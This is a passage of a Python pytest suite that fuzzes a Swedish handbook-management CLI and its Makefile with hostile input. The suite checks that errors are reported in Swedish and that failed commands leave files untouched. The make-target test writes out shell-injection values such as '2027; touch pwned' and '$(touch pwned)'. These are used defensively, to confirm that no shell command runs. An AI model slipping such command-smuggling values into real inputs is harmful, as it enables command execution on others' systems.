ENGLISH = re.compile(r"Traceback|\bError\b|error:|usage:|Warning|invalid|expected|not found|No such file|"
                     r"choose from|required|unrecognized|Aborted|Config value|Doc file|Exception")
SWEDISH = re.compile(r"\b(fel|är|inte|finns|saknas|får|ingenting|kan|ska|Skrev|Skapade|Lade|Importerade|Inga|"
                     r"Användning|Byggde|scheman|Uppdaterade)\b", re.I)


def tree(root: Path) -> dict[str, bytes]:
    """Every file under root except caches, the lock file and a linked virtual environment."""
    found = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("__pycache__", ".venv")]
        for name in files:
            path = Path(folder) / name
            if name != ".lis-bygg.lock":
                found[path.relative_to(root).as_posix()] = path.read_bytes()
    return found


def restore(root: Path, saved: dict[str, bytes]) -> None:
    """Put the tree back as it was after a command that succeeded (so the next one starts clean)."""
    for rel in set(tree(root)) - set(saved):
        (root / rel).unlink()
    for rel, content in saved.items():
        if (root / rel).read_bytes() != content:
            (root / rel).write_bytes(content)


def assert_reported_well(code: int, out: str, err: str, what: str) -> None:
    shown = "\n".join(line for line in (out + err).splitlines() if not line.startswith(("make: ***", "make[")))
    assert code in (0, 1, 2), f"{what}: exit {code}\n{shown}"
    assert "Traceback" not in shown, f"{what}:\n{shown}"
    assert not ENGLISH.search(shown), f"{what}: English in\n{shown}"
    assert SWEDISH.search(shown), f"{what}: no Swedish message in\n{shown}"


SLOTS = {
    "nytt-system ID": lambda p: ["nytt-system", p, "--namn", "N", "--objekt", "ekonomi"],
    "nytt-system --namn": lambda p: ["nytt-system", "nytt-x", "--namn", p, "--objekt", "ekonomi"],
    "nytt-system --objekt": lambda p: ["nytt-system", "nytt-x", "--namn", "N", "--objekt", p],
    "ny-rutin FILNAMN": lambda p: ["ny-rutin", p, "--titel", "T"],
    "ny-rutin --titel": lambda p: ["ny-rutin", "ny", "--titel", p],
    "ny-genomgang ÅR": lambda p: ["ny-genomgang", p],
    "pdf ÅR": lambda p: ["pdf", p],
    "pdf --ut": lambda p: ["pdf", "2099", "--ut", p],
    "export --mapp": lambda p: ["export", "--mapp", p],
    "import FIL": lambda p: ["import", p],
    "tillsyn --ut": lambda p: ["tillsyn", "--genomgang", "2099", "--ut", p],  # 2099: refused before printing
    "tillsyn --mapp": lambda p: ["tillsyn", "--genomgang", "2099", "--mapp", p],
    "tillsyn --genomgang": lambda p: ["tillsyn", "--genomgang", p],
    "kontrollera": lambda p: ["kontrollera", p],
    "bygg": lambda p: ["bygg", p],
    "schema": lambda p: ["schema", p],
}


# `lis pdf` and `lis tillsyn` read the pages' git history and `lis export` stamps the version from git: those slots start git.
@pytest.mark.parametrize("slot", [pytest.param(s, marks=pytest.mark.process) if s.startswith(("pdf", "export", "tillsyn")) else s
                                  for s in SLOTS])
@pytest.mark.sweep
def test_sweep_every_command_argument_with_hostile_input(project, capsys, slot):
    started = time.monotonic()
    for payload in PAYLOADS:
        args = SLOTS[slot](payload)
        if slot == "export --mapp" and payload.startswith(".."):
            continue  # a folder outside the test's own copy: allowed, but not here
        before = tree(project)
        code, out, err = lis(capsys, *args)
        assert_reported_well(code, out, err, f"lis {args!r}")
        if code == 0:
            restore(project, before)
        else:
            assert tree(project) == before, f"lis {args!r} wrote something although it failed"
    assert time.monotonic() - started < 60


@pytest.mark.process
def test_sweep_hostile_data_values_through_kontrollera_and_export(project, capsys):
    system_yaml = project / "data/system.yaml"
    original = system_yaml.read_text(encoding="utf-8")
    fields = ("namn", "syfte", "leverantör")
    for i, payload in enumerate(PAYLOADS):
        field, value = fields[i % len(fields)], scalar(payload)
        text, count = re.subn(rf"^    {field}: .*$", lambda _, v=value, f=field: f"    {f}: {v}", original, count=1,
                              flags=re.M)
        assert count == 1
        system_yaml.write_text(text, encoding="utf-8")
        before = tree(project)
        for args in (["kontrollera"], ["export", "--mapp", "ut"]):
            code, out, err = lis(capsys, *args)
            assert_reported_well(code, out, err, f"{field}={payload!r}: lis {' '.join(args)}")
            if code == 0:
                restore(project, before)
            else:
                assert tree(project) == before
    system_yaml.write_text(original, encoding="utf-8")


def _hostile_sheet(path: Path, rows: list[list[str]]) -> bool:
    """Write rows as .csv or as .xlsx with text cells; False when openpyxl cannot hold a value."""
    if path.suffix == ".csv":
        _rows_file(path, rows)
        return True
    book = Workbook()
    try:
        for row in rows:
            book.active.append(row)
    except IllegalCharacterError:  # no .xlsx file can hold these control characters
        return False
    for cell in book.active[2]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
    book.save(path)
    return True


@pytest.mark.process  # lis export stamps the handbook version from git
@pytest.mark.sweep
def test_sweep_hostile_spreadsheets_through_import(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    for i, payload in enumerate(PAYLOADS):
        column = (1, 0, 13)[i % 3]  # Namn, Id, K in turn; .csv and .xlsx in turn
        row = _new_row(rows, f"hostile-{i}", "Namn")
        row[column] = payload
        source = tmp_path / f"fientlig.{('csv', 'xlsx')[i // 3 % 2]}"
        if not _hostile_sheet(source, [rows[0], row]):
            continue
        before = tree(project)
        code, out, err = lis(capsys, "import", str(source))
        assert_reported_well(code, out, err, f"import {source.name} kolumn {column} = {payload!r}")
        if code == 0:
            assert load_handbook(project / "data").systems[-1].id == row[0]
            restore(project, before)
        else:
            assert tree(project) == before


def _make(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "LIS_DATE": LIS_DATE, "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(["make", "--no-print-directory", *args], cwd=project, env=env, capture_output=True,
                          text=True, timeout=240)


@pytest.fixture
def make_project(project: Path) -> Path:
    """The project copy with the Makefile and the worktree's virtual environment (linked, not copied)."""
    for name in ("Makefile", "requirements.txt", "requirements-dev.txt", "pyproject.toml"):
        shutil.copy2(ROOT / name, project / name)
    (project / ".venv").symlink_to(ROOT / ".venv")
    os.utime(ROOT / ".venv/.installed")  # newer than the copied requirements: make installs nothing
    return project


@pytest.mark.build
def test_sweep_make_targets(make_project, tmp_path):
    project = make_project
    started = time.monotonic()
    for payload in ["", "2027; touch pwned", "$(touch pwned) '\"", "3000"]:
        for target in ("ny-genomgang", "pdf"):
            before = tree(project)
            result = _make(project, target, f"AR={payload}")
            assert_reported_well(result.returncode and 1, result.stdout, result.stderr, f"make {target} AR={payload!r}")
            assert not (project / "pwned").exists(), f"make {target} AR={payload!r} ran a shell command"
            if result.returncode == 0:
                restore(project, before)
            else:
                assert tree(project) == before
    replaced = _make(project, "pdf", "AR=2099", "ERSATT=1")  # the flag reaches lis before the year
    assert "Fel: Det finns ingen genomgång för 2099" in replaced.stderr, replaced.stderr
    # kontrollera and build on data full of hostile text (every payload in a system's free text)
    system_yaml = project / "data/system.yaml"
    text = system_yaml.read_text(encoding="utf-8")
    for payload in (p for p in PAYLOADS if p.strip() and not re.search(r"\d{6}-\d{4}", p)):
        text, count = re.subn(r"^(    syfte: )(?!\")(.*)$", lambda m, p=payload: m.group(1) + scalar(p), text,
                              count=1, flags=re.M)
        if not count:
            break
    system_yaml.write_text(text, encoding="utf-8")
    checked = _make(project, "kontrollera")
    assert checked.returncode == 0, checked.stderr
    assert_reported_well(0, checked.stdout, checked.stderr, "make kontrollera")
    built = _make(project, "build")
    assert built.returncode == 0, built.stdout + built.stderr
    assert_reported_well(0, built.stdout, built.stderr, "make build")
    # a broken menu: make build fails in Swedish and leaves site/ as it was
    site = tree(project / "site")
    replace_in(project / "mkdocs.yml", "      - PUB-avtal: rutiner/pub-avtal.md\n", "      - PUB-avtal: plan: x.md\n")
    broken = _make(project, "build")
    assert broken.returncode != 0
    assert_reported_well(1, broken.stdout, broken.stderr, "make build med trasig mkdocs.yml")
    assert tree(project / "site") == site
    assert time.monotonic() - started < 240
